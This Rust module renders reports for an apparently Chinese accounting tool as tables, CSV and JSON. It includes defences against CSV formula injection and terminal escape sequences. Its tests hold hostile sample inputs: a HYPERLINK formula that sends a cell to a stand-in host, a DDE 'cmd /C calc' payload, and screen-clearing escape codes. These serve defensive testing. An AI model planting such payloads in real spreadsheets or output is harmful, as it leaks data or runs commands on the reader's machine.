//! Rendering: aligned tables with Chinese labels, CSV and JSON. Every function returns a
//! string; only the CLI writes to the terminal.

pub mod ledger;
pub mod reconcile;
pub mod reports;
pub mod sheets;
pub mod voucher_print;
pub mod xlsx;

use comfy_table::presets::UTF8_FULL_CONDENSED;
use comfy_table::{CellAlignment, ContentArrangement, Table};
use std::sync::atomic::{AtomicBool, AtomicU16, AtomicUsize, Ordering};

/// How a report is written.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum OutputFormat {
    /// Aligned tables for people.
    Table,
    /// JSON for scripts.
    Json,
    /// CSV for spreadsheets and scripts.
    Csv,
}

/// How the command line wants tables and CSV, set once before anything is rendered (the server
/// keeps the defaults): the widest a table may be (0: no limit) and whether CSV amounts stay
/// plain (`1234.56`) instead of grouped like the tables (`1,234.56`).
static TABLE_WIDTH: AtomicU16 = AtomicU16::new(0);
static RAW_AMOUNTS: AtomicBool = AtomicBool::new(false);
/// Minutes east of UTC that times are shown in (480: Asia/Shanghai, which keeps no summer time).
static UTC_OFFSET_MINUTES: std::sync::atomic::AtomicI32 = std::sync::atomic::AtomicI32::new(480);

/// Sets the time zone times are shown in (times are stored in UTC).
pub fn set_time_zone(offset_minutes: i32) {
    UTC_OFFSET_MINUTES.store(offset_minutes, Ordering::Relaxed);
}

/// A time zone as staff give it: `Asia/Shanghai` (China's one zone, UTC+8), `UTC`, or `+08:00`.
pub fn parse_time_zone(text: &str) -> Result<i32, String> {
    match text.trim() {
        "Asia/Shanghai" | "Asia/Chongqing" | "Asia/Harbin" | "Asia/Urumqi" | "PRC" | "北京时间" => Ok(480),
        "UTC" | "Z" => Ok(0),
        offset => {
            let (sign, rest) = match offset.as_bytes().first() {
                Some(b'+') => (1, &offset[1..]),
                Some(b'-') => (-1, &offset[1..]),
                _ => return Err(format!("时区 {offset} 无效：请写 Asia/Shanghai、UTC 或 +08:00")),
            };
            let (hours, minutes) = rest.split_once(':').unwrap_or((rest, "0"));
            match (hours.parse::<i32>(), minutes.parse::<i32>()) {
                (Ok(h), Ok(m)) if (0..=14).contains(&h) && (0..60).contains(&m) => Ok(sign * (h * 60 + m)),
                _ => Err(format!("时区 {offset} 无效：请写 Asia/Shanghai、UTC 或 +08:00")),
            }
        }
    }
}

/// A stored UTC time (`2023-01-03T08:00:00Z`) as staff read it, in the chosen time zone
/// (`2023-01-03 16:00:00`); text that is not such a time is shown as it is.
pub fn local_time(stored: &str) -> String {
    let offset = UTC_OFFSET_MINUTES.load(Ordering::Relaxed);
    match (chrono::DateTime::parse_from_rfc3339(stored), chrono::FixedOffset::east_opt(offset * 60)) {
        (Ok(time), Some(zone)) => time.with_timezone(&zone).format("%Y-%m-%d %H:%M:%S").to_string(),
        _ => stored.to_string(),
    }
}

/// Sets the rendering style for this process (the CLI calls it once, from its flags).
pub fn set_style(table_width: Option<u16>, raw_amounts: bool) {
    TABLE_WIDTH.store(table_width.unwrap_or(0), Ordering::Relaxed);
    RAW_AMOUNTS.store(raw_amounts, Ordering::Relaxed);
}

/// A table of text cells; columns listed in `right` are right-aligned (amounts). Wider than
/// the style's width, the text columns wrap (the amounts never do).
pub fn table(headers: &[&str], rows: &[Vec<String>], right: &[usize]) -> String {
    if rows.len() > CHUNKED_ABOVE {
        // Laid out whole, a table costs a few hundred bytes a cell; in chunks of the same widths
        // only the text is held.
        let mut widths = TableWidths::new(headers);
        rows.iter().for_each(|row| widths.measure(row));
        let mut chunked = ChunkedTable::new(headers, right, &widths);
        let count = rows.len().div_ceil(TABLE_CHUNK);
        return rows
            .chunks(TABLE_CHUNK)
            .enumerate()
            .map(|(index, chunk)| chunked.chunk(chunk, index + 1 == count))
            .collect();
    }
    whole_table(headers, rows, right)
}

/// `table`, laid out in one piece.
fn whole_table(headers: &[&str], rows: &[Vec<String>], right: &[usize]) -> String {
    let mut table = Table::new();
    table.load_preset(UTF8_FULL_CONDENSED).set_content_arrangement(ContentArrangement::Disabled);
    let width = TABLE_WIDTH.load(Ordering::Relaxed);
    if width > 0 {
        table.set_content_arrangement(ContentArrangement::Dynamic).set_width(width);
    }
    table.set_header(headers.iter().copied());
    for row in rows {
        table.add_row(row.iter().cloned());
    }
    for index in right {
        if let Some(column) = table.column_mut(*index) {
            column.set_cell_alignment(CellAlignment::Right);
        }
    }
    if width > 0 {
        // Amounts, dates, voucher numbers and codes keep their width: wrapping one would
        // misread it. Only the text columns (摘要, 科目名称, 说明 …) wrap.
        for (index, header) in headers.iter().enumerate() {
            if !right.contains(&index) && !UNWRAPPED.contains(header) {
                // A text column wraps, but keeps room for two Chinese characters: squeezed to
                // one column, a character two columns wide overflowed its cell and the table's
                // lines no longer met (the table is then wider than the terminal; `less -S`
                // or --wide show it whole).
                if let Some(column) = table.column_mut(index) {
                    column.set_constraint(comfy_table::ColumnConstraint::LowerBoundary(comfy_table::Width::Fixed(
                        MIN_TEXT_COLUMN,
                    )));
                }
                continue;
            }
            let widest = std::iter::once(*header)
                .chain(rows.iter().filter_map(|r| r.get(index).map(String::as_str)))
                .map(display_width)
                .max()
                .unwrap_or(0);
            if let Some(column) = table.column_mut(index) {
                column.set_constraint(comfy_table::ColumnConstraint::Absolute(comfy_table::Width::Fixed(
                    (widest as u16).saturating_add(2),
                )));
            }
        }
    }
    let mut text = table.to_string();
    text.push('\n');
    text
}

/// A table longer than this is laid out a chunk of `TABLE_CHUNK` rows at a time.
pub const CHUNKED_ABOVE: usize = 5_000;
pub const TABLE_CHUNK: usize = 1_000;
/// The first chunk of a long table is shorter: a page, on screen as soon as it is laid out.
pub const FIRST_CHUNK: usize = 100;

/// The widest cell of each column of a table, measured row by row (a first pass over a table too
/// long to hold).
#[derive(Debug, Clone)]
pub struct TableWidths {
    widest: Vec<usize>,
    pub rows: usize,
}

impl TableWidths {
    pub fn new(headers: &[&str]) -> TableWidths {
        TableWidths { widest: headers.iter().map(|h| display_width(h)).collect(), rows: 0 }
    }

    pub fn measure(&mut self, row: &[String]) {
        self.rows += 1;
        for (widest, cell) in self.widest.iter_mut().zip(row) {
            *widest = (*widest).max(cell.lines().map(display_width).max().unwrap_or(0));
        }
    }

    /// Adds the rows measured in another part of the same table.
    pub fn add(&mut self, other: &TableWidths) {
        self.rows += other.rows;
        for (widest, theirs) in self.widest.iter_mut().zip(&other.widest) {
            *widest = (*widest).max(*theirs);
        }
    }
}

/// A table measured in parts, on as many threads as read them: each part's widths, and its rows
/// while all the parts together keep no more than `CHUNKED_ABOVE` — a short table is then laid out
/// from them, not read again. Memory holds at most that many rows whatever the parts.
pub struct TableParts {
    room: AtomicUsize,
}

/// One part being measured (`TableParts::part`).
pub struct PartRows<'t> {
    room: &'t AtomicUsize,
    widths: TableWidths,
    kept: Option<Vec<Vec<String>>>,
}

/// What a part measured, and its rows if they were kept.
pub struct MeasuredPart {
    widths: TableWidths,
    kept: Option<Vec<Vec<String>>>,
}

/// The whole table measured: its widths (and number of rows), and its rows when it is short.
pub struct MeasuredTable {
    pub widths: TableWidths,
    pub rows: Option<Vec<Vec<String>>>,
}

impl Default for TableParts {
    fn default() -> TableParts {
        TableParts { room: AtomicUsize::new(CHUNKED_ABOVE) }
    }
}

impl TableParts {
    pub fn part(&self, headers: &[&str]) -> PartRows<'_> {
        PartRows { room: &self.room, widths: TableWidths::new(headers), kept: Some(Vec::new()) }
    }

    /// The table of `head` (rows before the parts), the parts in order and `tail`.
    pub fn table(
        headers: &[&str],
        head: Vec<Vec<String>>,
        parts: Vec<MeasuredPart>,
        tail: Vec<Vec<String>>,
    ) -> MeasuredTable {
        let mut widths = TableWidths::new(headers);
        head.iter().chain(&tail).for_each(|row| widths.measure(row));
        parts.iter().for_each(|part| widths.add(&part.widths));
        // Short means what it means for a table read once: all its rows within CHUNKED_ABOVE; the
        // parts then kept every row, since together they asked for less room than there was.
        let rows = (widths.rows <= CHUNKED_ABOVE)
            .then(|| {
                let mut rows = head;
                for part in parts {
                    rows.extend(part.kept?);
                }
                rows.extend(tail);
                Some(rows)
            })
            .flatten();
        MeasuredTable { widths, rows }
    }
}

impl PartRows<'_> {
    /// Measures the rows, and keeps them while there is room.
    pub fn add(&mut self, rows: Vec<Vec<String>>) {
        rows.iter().for_each(|row| self.widths.measure(row));
        if let Some(kept) = &mut self.kept {
            match self.room.fetch_update(Ordering::Relaxed, Ordering::Relaxed, |room| room.checked_sub(rows.len())) {
                Ok(_) => kept.extend(rows),
                Err(_) => self.kept = None,
            }
        }
    }

    pub fn done(self) -> MeasuredPart {
        MeasuredPart { widths: self.widths, kept: self.kept }
    }
}

/// A table written a chunk of rows at a time, every chunk with the same column widths: those
/// `table` would give the whole table (exactly so when it does not wrap; when it wraps, as the
/// widest cells of each column would wrap).
pub struct ChunkedTable {
    headers: Vec<String>,
    right: Vec<usize>,
    widths: Vec<u16>,
    started: bool,
}

impl ChunkedTable {
    pub fn new(headers: &[&str], right: &[usize], widths: &TableWidths) -> ChunkedTable {
        let probe: Vec<String> = widths.widest.iter().map(|w| "x".repeat(*w)).collect();
        let laid_out = whole_table(headers, &[probe], right);
        // The top border's segments are the columns' widths: ┌────┬──────┐.
        let top = laid_out.lines().next().unwrap_or("");
        let inner = top.trim_start_matches('┌').trim_end_matches('┐');
        let widths = inner.split('┬').map(|segment| segment.chars().count() as u16).collect();
        ChunkedTable {
            headers: headers.iter().map(|h| h.to_string()).collect(),
            right: right.to_vec(),
            widths,
            started: false,
        }
    }

    /// The next rows; `last` closes the table.
    pub fn chunk(&mut self, rows: &[Vec<String>], last: bool) -> String {
        let mut table = Table::new();
        table.load_preset(UTF8_FULL_CONDENSED).set_content_arrangement(ContentArrangement::Disabled);
        let width = TABLE_WIDTH.load(Ordering::Relaxed);
        if width > 0 {
            table.set_content_arrangement(ContentArrangement::Dynamic).set_width(width);
        }
        table.set_header(self.headers.iter().cloned());
        for row in rows {
            table.add_row(row.iter().cloned());
        }
        for (index, width) in self.widths.iter().enumerate() {
            if let Some(column) = table.column_mut(index) {
                column.set_constraint(comfy_table::ColumnConstraint::Absolute(comfy_table::Width::Fixed(*width)));
                if self.right.contains(&index) {
                    column.set_cell_alignment(CellAlignment::Right);
                }
            }
        }
        let text = table.to_string();
        let lines: Vec<&str> = text.lines().collect();
        // Top border, header and its rule come once; the bottom border once, at the end. A header
        // wrapped in a narrow terminal takes more than one line: a later chunk skips through its
        // rule (╞═╪═╡), which no row begins with.
        let skip = match self.started {
            true => lines.iter().position(|line| line.starts_with('╞')).map_or(0, |rule| rule + 1),
            false => 0,
        };
        let keep = if last { lines.len() } else { lines.len().saturating_sub(1) };
        self.started = true;
        let mut out = String::new();
        for line in lines.iter().take(keep).skip(skip) {
            out.push_str(line);
            out.push('\n');
        }
        out
    }
}

/// The narrowest a wrapped text column gets: two Chinese characters and the padding.
const MIN_TEXT_COLUMN: u16 = 6;

/// Columns that never wrap in a narrow table: identifiers and dates.
const UNWRAPPED: [&str; 9] = ["日期", "凭证号", "账簿", "科目编码", "期限", "状态", "方向", "完成日期", "依据"];

/// Terminal columns a text takes (CJK characters take two, box drawing one).
pub fn display_width(text: &str) -> usize {
    unicode_width::UnicodeWidthStr::width(text)
}

/// CSV text for Excel and scripts: a UTF-8 byte-order mark (so Excel reads Chinese), the header
/// row, then the rows; cells in `amounts` that hold a plain amount are grouped like the tables
/// (`1,234.56`), or plain (`1234.56`) with `--raw-amounts`, however the caller wrote them.
pub fn csv(headers: &[&str], rows: &[Vec<String>], amounts: &[usize]) -> String {
    csv_head(headers) + &csv_rows(rows, amounts)
}

/// The start of a CSV text: the byte-order mark and the header row.
pub fn csv_head(headers: &[&str]) -> String {
    let mut writer = csv::Writer::from_writer(Vec::new());
    // Writing to a Vec cannot fail.
    let _ = writer.write_record(headers.iter().map(|header| inert_cell(header).into_owned()));
    format!("\u{feff}{}", String::from_utf8(writer.into_inner().unwrap_or_default()).unwrap_or_default())
}

/// CSV rows after `csv_head`, amounts written as `csv` writes them (a long report is written a
/// few rows at a time); every other cell as `inert_cell` makes it.
pub fn csv_rows(rows: &[Vec<String>], amounts: &[usize]) -> String {
    let raw = RAW_AMOUNTS.load(Ordering::Relaxed);
    let mut writer = csv::Writer::from_writer(Vec::new());
    for row in rows {
        let cells = row.iter().enumerate().map(|(i, cell)| match crate::money::Money::parse(cell) {
            Ok(amount) if amounts.contains(&i) && !cell.is_empty() => {
                if raw {
                    amount.plain()
                } else {
                    amount.grouped()
                }
            }
            _ => inert_cell(cell).into_owned(),
        });
        let _ = writer.write_record(cells);
    }
    String::from_utf8(writer.into_inner().unwrap_or_default()).unwrap_or_default()
}

/// A CSV cell that a spreadsheet shows as the text it is. Excel and WPS read a cell beginning with
/// `=`, `+`, `-` or `@` (or a tab or carriage return before one) as a formula: a summary such as
/// `=HYPERLINK("http://…"&A1)` or a DDE call, put in a voucher or a bank statement by anyone who
/// can write one, would run on the desk of whoever opens the export. Such a cell gets a leading
/// apostrophe (OWASP's advice for CSV injection), shown by the spreadsheet as a quote mark
/// before the text; a number (`-1,234.56`, `-3`) is left as it is, which the spreadsheet reads
/// as the number. The stored text is unchanged: JSON, tables and xlsx (whose cells are typed
/// strings, never formulas) show it exactly.
pub fn inert_cell(cell: &str) -> std::borrow::Cow<'_, str> {
    let starts_a_formula = matches!(cell.chars().next(), Some('=' | '+' | '-' | '@' | '\t' | '\r'));
    if starts_a_formula && crate::money::Money::parse(cell).is_err() {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

/// Output as a terminal may be shown it: every control character but the line feed and the tab
/// becomes a visible symbol — a C0 character its Control Pictures sign (ESC → ␛, CR → ␍), DEL ␡,
/// a C1 character (U+0080–U+009F, which some terminals obey as ESC sequences) �. Text fundpool
/// stores from staff refuses control characters, but some arrives from elsewhere: a file's name,
/// a bank statement, the target of a refused web request in the audit log. Written raw, an escape
/// sequence there could clear the screen, rewrite a line of the audit listing (`\r`) or retitle the
/// terminal for whoever reads the output. Applied to every byte written to stdout and to error
/// messages; JSON is unchanged (it escapes C0 itself), and so is any text without controls.
/// Works on bytes: the C0 set and DEL never occur inside a UTF-8 sequence, and a C1 character is
/// the pair C2 80–9F.
pub fn inert_bytes(bytes: &[u8]) -> std::borrow::Cow<'_, [u8]> {
    let is_control = |b: u8| (b < 0x20 && b != b'\n' && b != b'\t') || b == 0x7f;
    let c1_at = |i: usize| bytes[i] == 0xc2 && bytes.get(i + 1).is_some_and(|next| (0x80..=0x9f).contains(next));
    // The common case, checked byte by byte without looking ahead: nothing to replace (0xC2
    // starts a C1 character, and also ¢ £ ¥ · and their neighbours, rare in fundpool's output).
    if !bytes.iter().any(|&b| is_control(b) || b == 0xc2) {
        return std::borrow::Cow::Borrowed(bytes);
    }
    let mut out = Vec::with_capacity(bytes.len() + 32);
    let mut i = 0;
    while i < bytes.len() {
        let sign = match bytes[i] {
            b if b < 0x20 && is_control(b) => char::from_u32(0x2400 + u32::from(b)),
            0x7f => Some('\u{2421}'),
            _ if c1_at(i) => {
                i += 1;
                Some('\u{fffd}')
            }
            b => {
                out.push(b);
                None
            }
        };
        if let Some(sign) = sign {
            out.extend_from_slice(sign.encode_utf8(&mut [0; 4]).as_bytes());
        }
        i += 1;
    }
    // A 0xC2 that began no C1 character (·, ¥): nothing was replaced.
    if out.len() == bytes.len() {
        return std::borrow::Cow::Borrowed(bytes);
    }
    std::borrow::Cow::Owned(out)
}

/// `inert_bytes` for a text.
pub fn inert_text(text: &str) -> std::borrow::Cow<'_, str> {
    match inert_bytes(text.as_bytes()) {
        std::borrow::Cow::Borrowed(_) => std::borrow::Cow::Borrowed(text),
        // Only whole characters were replaced, by characters: still UTF-8.
        std::borrow::Cow::Owned(bytes) => std::borrow::Cow::Owned(String::from_utf8_lossy(&bytes).into_owned()),
    }
}

/// Pretty JSON with a trailing newline.
pub fn json<T: serde::Serialize>(value: &T) -> String {
    let mut text = serde_json::to_string_pretty(value).unwrap_or_else(|_| "null".into());
    text.push('\n');
    text
}

/// A JSON object whose last field is an array, written an item at a time: `head`, each `item`,
/// `end` — byte for byte what `json` writes for the same object held whole.
#[derive(Default)]
pub struct JsonArray {
    items: usize,
}

impl JsonArray {
    /// The object's opening, its text fields in order, and the array's name.
    pub fn head(fields: &[(&str, String)], array: &str) -> String {
        let mut head = String::from("{\n");
        for (name, value) in fields {
            head.push_str(&format!("  {}: {},\n", json_text(name), json_text(value)));
        }
        head.push_str(&format!("  {}: [", json_text(array)));
        head
    }

    /// One item, indented two levels as inside the whole object's array.
    pub fn item<T: serde::Serialize>(&mut self, item: &T) -> String {
        self.items += 1;
        let body = serde_json::to_string_pretty(item).unwrap_or_else(|_| "null".into());
        let separator = if self.items == 1 { "\n    " } else { ",\n    " };
        separator.to_string() + &body.replace('\n', "\n    ")
    }

    /// The closing brackets.
    pub fn end(&self) -> String {
        if self.items == 0 { "]\n}\n" } else { "\n  ]\n}\n" }.to_string()
    }
}

/// A text as a JSON string.
fn json_text(text: &str) -> String {
    serde_json::to_string(text).unwrap_or_else(|_| "\"\"".into())
}

#[cfg(test)]
mod chunked_tests {
    use super::*;

    /// Written a few rows at a time, a table is the table written whole.
    #[test]
    fn a_table_in_chunks_is_the_whole_table() {
        let headers = ["日期", "摘要", "借方"];
        let rows: Vec<Vec<String>> =
            (0..7).map(|i| vec![format!("2023-01-0{i}"), "收".repeat(i + 1), format!("{},000.0{i}", i * 7)]).collect();
        let whole = table(&headers, &rows, &[2]);
        for size in [1, 2, 3, 7] {
            let mut widths = TableWidths::new(&headers);
            rows.iter().for_each(|row| widths.measure(row));
            assert_eq!(widths.rows, 7);
            let mut chunked = ChunkedTable::new(&headers, &[2], &widths);
            let chunks: Vec<&[Vec<String>]> = rows.chunks(size).collect();
            let mut text = String::new();
            for (index, chunk) in chunks.iter().enumerate() {
                text.push_str(&chunked.chunk(chunk, index + 1 == chunks.len()));
            }
            assert_eq!(text, whole, "chunks of {size}");
        }
    }

    /// A table long enough to be laid out in chunks is the one laid out whole.
    #[test]
    fn a_long_table_is_laid_out_as_one() {
        let rows: Vec<Vec<String>> = (0..CHUNKED_ABOVE + 1234)
            .map(|i| vec![format!("{i}"), "摘".repeat(i % 17), format!("{}.00", i * 3)])
            .collect();
        let chunked = table(&["序号", "摘要", "金额"], &rows, &[2]);
        assert_eq!(chunked, whole_table(&["序号", "摘要", "金额"], &rows, &[2]));
        assert_eq!(chunked.lines().count(), rows.len() + 4);
    }

    /// Rows of a table: `count` of them, numbered from `from`, the widest 摘要 at `wide`.
    fn numbered(from: usize, count: usize, wide: usize) -> Vec<Vec<String>> {
        (from..from + count)
            .map(|i| {
                vec![format!("{i}"), if i == wide { "摘".repeat(30) } else { "摘".into() }, format!("{}.00", i * 3)]
            })
            .collect()
    }

    /// A table measured in parts on two threads: the widths and number of rows of the table
    /// measured in one pass; its rows, in order, while it is short (up to `CHUNKED_ABOVE` rows,
    /// its head and tail included); none past that, and never more kept than `CHUNKED_ABOVE`.
    #[test]
    fn a_table_measured_in_parts_is_the_table_measured_whole() {
        let headers = ["序号", "摘要", "金额"];
        for (sizes, short) in [
            (vec![3, 0, 5], true),
            (vec![CHUNKED_ABOVE - 2], true),
            (vec![CHUNKED_ABOVE - 1], false),
            (vec![2_000, 2_000, 998], true),
            (vec![2_000, 2_000, 999], false),
            (vec![4_000, 4_000, 4_000, 10], false),
        ] {
            let (head, tail) = (numbered(900_000, 1, usize::MAX), numbered(900_001, 1, usize::MAX));
            let mut starts = vec![0];
            sizes.iter().for_each(|size| starts.push(starts[starts.len() - 1] + size));
            let wide = starts[starts.len() - 1].saturating_sub(1);
            let part_rows: Vec<Vec<Vec<String>>> =
                sizes.iter().zip(&starts).map(|(size, start)| numbered(*start, *size, wide)).collect();
            let parts = TableParts::default();
            let measured: Vec<MeasuredPart> = std::thread::scope(|scope| {
                let handles: Vec<_> = part_rows
                    .iter()
                    .map(|rows| {
                        let parts = &parts;
                        scope.spawn(move || {
                            let mut part = parts.part(&headers);
                            // A few rows at a time, as a walk hands them on.
                            rows.chunks(7).for_each(|batch| part.add(batch.to_vec()));
                            part.done()
                        })
                    })
                    .collect();
                handles.into_iter().map(|h| h.join().expect("a part")).collect()
            });
            let kept: usize = measured.iter().filter_map(|p| p.kept.as_ref()).map(Vec::len).sum();
            assert!(kept <= CHUNKED_ABOVE, "{sizes:?}: {kept} rows kept");
            let table = TableParts::table(&headers, head.clone(), measured, tail.clone());
            let all: Vec<Vec<String>> = head.into_iter().chain(part_rows.into_iter().flatten()).chain(tail).collect();
            let mut whole = TableWidths::new(&headers);
            all.iter().for_each(|row| whole.measure(row));
            assert_eq!((table.widths.widest.clone(), table.widths.rows), (whole.widest, whole.rows), "{sizes:?}");
            assert_eq!(table.widths.widest[1], 60, "the widest 摘要 is measured, wherever it is");
            match table.rows {
                Some(rows) => {
                    assert!(short, "{sizes:?} is long");
                    assert_eq!(rows, all, "{sizes:?}");
                }
                None => assert!(!short, "{sizes:?} is short"),
            }
        }
    }
}

#[cfg(test)]
mod csv_tests {
    use super::*;

    /// What a spreadsheet would run as a formula is written as text; numbers and ordinary text
    /// are written as they are.
    #[test]
    fn a_cell_that_would_be_a_formula_is_written_as_text() {
        for formula in ["=HYPERLINK(\"http://x/?\"&A1,\"点击\")", "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "=", "-"]
        {
            assert_eq!(inert_cell(formula), format!("'{formula}"), "{formula:?}");
        }
        for plain in ["-1,234.56", "-3", "-0.05", "支付住院统筹", "记-2023-01-0001", "", "1+1", "'=already"] {
            assert_eq!(inert_cell(plain), plain, "{plain:?}");
        }
        let text = csv(&["摘要", "金额"], &[vec!["=cmd|' /C calc'!A0".into(), "-1234.5".into()]], &[1]);
        assert_eq!(text, "\u{feff}摘要,金额\n'=cmd|' /C calc'!A0,\"-1,234.50\"\n");
    }
}

#[cfg(test)]
mod inert_tests {
    use super::*;

    #[test]
    fn control_characters_are_shown_not_obeyed() {
        assert_eq!(inert_text("合计 100\r合计 999"), "合计 100␍合计 999");
        assert_eq!(inert_text("\u{1b}[2J\u{1b}]0;x\u{7}"), "␛[2J␛]0;x␇");
        assert_eq!(inert_text("a\u{7f}b\u{9b}31mc\u{0}"), "a␡b\u{fffd}31mc␀");
        for plain in ["", "第 1 行\n\t缩进", "中文·×÷ ¥1,234.56 \u{a0}", "\u{c2}\u{a9}"] {
            assert!(matches!(inert_text(plain), std::borrow::Cow::Borrowed(_)), "{plain:?}");
        }
        // JSON escapes C0 itself: unchanged.
        let json = serde_json::to_string("\u{1b}[2J").unwrap();
        assert_eq!(inert_text(&json), json);
    }
}
